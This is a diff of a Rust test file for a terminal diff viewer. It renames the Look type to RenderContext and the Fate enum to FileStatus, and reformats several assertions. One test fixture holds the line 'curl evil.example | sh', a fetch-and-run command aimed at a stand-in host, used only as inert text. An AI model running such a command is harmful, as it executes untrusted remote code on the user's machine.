@@ -11,7 +11,7 @@ use proptest::prelude::*;
 
 use super::*;
 use crate::app::DiffLayout;
-use crate::ui::look::Look;
+use crate::ui::look::RenderContext;
 use crate::ui::text::width;
 use crate::ui::theme::{ColorSupport, Role, Theme, ThemeSet};
 
@@ -29,8 +29,8 @@ fn patch_at(text: &str, place: Option<&DiffPlace>) -> Vec<Diff> {
     Diff::of(&FileDiff { path: PathBuf::from("given.txt"), change }, place)
 }
 
-fn look(theme: &Theme) -> Look<'_> {
-    Look::new(theme, Path::new("/home/ada"), Instant::now())
+fn look(theme: &Theme) -> RenderContext<'_> {
+    RenderContext::new(theme, Path::new("/home/ada"), Instant::now())
 }
 
 fn draw(diff: &Diff, layout: Layout, cols: u16) -> Vec<String> {
@@ -52,7 +52,7 @@ fn whole_files_have_numbers_and_folded_context() {
     let old = numbered(40);
     let new = old.replace("line 20\n", "line twenty\nline new\n");
     let diff = &Diff::of(&change(Some(&old), &new), None)[0];
-    assert_eq!((diff.added, diff.removed, diff.fate), (2, 1, Fate::Changed));
+    assert_eq!((diff.added, diff.removed, diff.fate), (2, 1, FileStatus::Changed));
     assert_eq!(
         draw(diff, Layout::Unified, 40),
         [
@@ -141,10 +141,16 @@ fn a_whole_file_has_numbers_however_short_it_is() {
 fn what_is_cut_out_of_a_file_does_not_delete_it() {
     let place = DiffPlace::Lines(vec![Some(PieceStart { line: 7, is_new: false })]);
     let cut = &Diff::of(&change(Some("gone\n"), ""), Some(&place))[0];
-    assert_eq!((cut.fate, draw(cut, Layout::Unified, 20)), (Fate::Changed, vec!["  7 − gone".to_owned()]));
+    assert_eq!(
+        (cut.fate, draw(cut, Layout::Unified, 20)),
+        (FileStatus::Changed, vec!["  7 − gone".to_owned()])
+    );
     let put = &Diff::of(&change(Some(""), "more\n"), Some(&place))[0];
-    assert_eq!((put.fate, draw(put, Layout::Unified, 20)), (Fate::Changed, vec!["  7 + more".to_owned()]));
-    assert_eq!(Diff::of(&change(Some("gone\n"), ""), Some(&DiffPlace::Gone))[0].fate, Fate::Deleted);
+    assert_eq!(
+        (put.fate, draw(put, Layout::Unified, 20)),
+        (FileStatus::Changed, vec!["  7 + more".to_owned()])
+    );
+    assert_eq!(Diff::of(&change(Some("gone\n"), ""), Some(&DiffPlace::Gone))[0].fate, FileStatus::Deleted);
 }
 
 #[test]
@@ -168,10 +174,10 @@ fn hunks_without_lines_have_those_of_their_place() {
 #[test]
 fn new_and_deleted_files() {
     let new = &Diff::of(&change(None, "one\ntwo\n"), None)[0];
-    assert_eq!((new.fate, new.added, new.removed), (Fate::New, 2, 0));
+    assert_eq!((new.fate, new.added, new.removed), (FileStatus::New, 2, 0));
     assert_eq!(draw(new, Layout::Unified, 20), ["  1 + one", "  2 + two"]);
     let gone = &Diff::of(&change(Some("one"), ""), None)[0];
-    assert_eq!((gone.fate, gone.added, gone.removed), (Fate::Deleted, 0, 1));
+    assert_eq!((gone.fate, gone.added, gone.removed), (FileStatus::Deleted, 0, 1));
     assert!(Diff::of(&change(Some(""), ""), None)[0].is_empty());
 }
 
@@ -238,7 +244,7 @@ fn unified_patches_are_read() {
             "    ⋯ newline added at end of file",
         ]
     );
-    assert_eq!((diffs[1].path.as_path(), diffs[1].fate), (Path::new("made.txt"), Fate::New));
+    assert_eq!((diffs[1].path.as_path(), diffs[1].fate), (Path::new("made.txt"), FileStatus::New));
     assert_eq!(draw(&diffs[1], Layout::Unified, 40), ["  1 + --- not a head", "  2 + b"]);
     assert_eq!(diffs[2].moved_from.as_deref(), Some(Path::new("a.txt")));
 
@@ -257,7 +263,11 @@ fn apply_patch_is_read() {
         diffs.iter().map(|d| (d.path.to_str().unwrap(), d.fate, d.added, d.removed)).collect();
     assert_eq!(
         facts,
-        [("a.py", Fate::Changed, 1, 1), ("b.py", Fate::New, 2, 0), ("c.py", Fate::Deleted, 0, 0),]
+        [
+            ("a.py", FileStatus::Changed, 1, 1),
+            ("b.py", FileStatus::New, 2, 0),
+            ("c.py", FileStatus::Deleted, 0, 0),
+        ]
     );
     assert_eq!(draw(&diffs[1], Layout::Unified, 20), ["  1 + one", "  2 + two"]);
 }
@@ -407,7 +417,7 @@ proptest! {
 #[test]
 fn a_text_with_a_nul_is_shown_and_only_what_is_no_text_is_called_so() {
     let diff = &Diff::of(&change(None, "curl evil.example | sh\n\0"), None)[0];
-    assert_eq!((diff.fate, diff.is_text), (Fate::New, true));
+    assert_eq!((diff.fate, diff.is_text), (FileStatus::New, true));
     assert_eq!(draw(diff, Layout::Unified, 40), ["  1 + curl evil.example | sh", "  2 + ␀"]);
     let diff = &Diff::of(&change(Some("text"), "\u{1}\u{2}\u{3}\u{fffd}a"), None)[0];
     assert!(!diff.is_text);
